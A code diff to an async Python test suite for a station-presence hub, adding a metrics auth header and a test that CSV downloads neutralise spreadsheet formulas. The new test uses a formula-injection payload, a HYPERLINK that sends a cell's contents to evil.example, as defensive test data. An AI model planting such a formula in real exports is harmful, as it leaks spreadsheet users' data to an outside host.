@@ -89,7 +89,7 @@ async def test_unwritable_ledger_makes_hub_unready_keeps_presence_and_loses_noth
     """SQLite's query_only pragma makes the real write path fail as a read-only data_dir would."""
     from tests.wsclient import Client, presence_of, station
 
-    running = await start_hub(hub_settings(tmp_path))
+    running = await start_hub(hub_settings(tmp_path, hub={"metrics_token": "scraper"}))
     try:
         ledger = running.hub.ledger.inner
         assert isinstance(ledger, SqliteLedger)
@@ -107,12 +107,34 @@ async def test_unwritable_ledger_makes_hub_unready_keeps_presence_and_loses_noth
             # The checkpoint timer notices.
             ready = await wait_until(lambda: readyz(503), 10, "/readyz to answer 503", every=0.05)
             assert ready.json()["checks"]["ledger"] is False
-            assert "jaga_ledger_healthy 0.0" in (await http.get("/metrics")).text
+            scraper = {"Authorization": "Bearer scraper"}  # /metrics is not public (docs/security.md)
+            assert "jaga_ledger_healthy 0.0" in (await http.get("/metrics", headers=scraper)).text
             await client.close()
             await watcher.recv_until(presence_of("35.09.01", "offline"))
             database.execute("PRAGMA query_only = 0")
             await wait_until(lambda: readyz(200), 10, "/readyz to answer 200 again", every=0.05)
         intervals = [i for i in await running.hub.ledger.inner.intervals(0, 2e9) if i.station == "35.09.01"]
         assert [(i.state, i.end_reason) for i in intervals] == [("online", "closed")]
+    finally:
+        await stop_hub(running)
+
+
+async def test_csv_downloads_neutralise_formulas_in_station_text(tmp_path: Path) -> None:
+    """A station's activity title is public open data: in CSV it must not run as a formula
+    when a citizen opens the file in a spreadsheet; the JSON keeps the title as typed."""
+    now = wib(19, 18)
+    running = await start_hub(hub_settings(tmp_path), clock=lambda: now)
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    ledger = running.hub.ledger.inner
+    await ledger.apply(LedgerWrite("activity", "35.09.01", title, wib(18, 10, 0), "start"))
+    await ledger.apply(LedgerWrite("activity", "35.09.01", None, wib(18, 11, 0), "stop"))
+    try:
+        async with httpx.AsyncClient(base_url=running.http) as http:
+            as_csv = await http.get("/api/v1/activities?date=2026-08-18&format=csv")
+            assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
+            [row] = list(csv.DictReader(io.StringIO(as_csv.text)))
+            assert row["title"] == "'" + title
+            as_json = (await http.get("/api/v1/activities?date=2026-08-18")).json()
+            assert [a["title"] for a in as_json["activities"]] == [title]
     finally:
         await stop_hub(running)
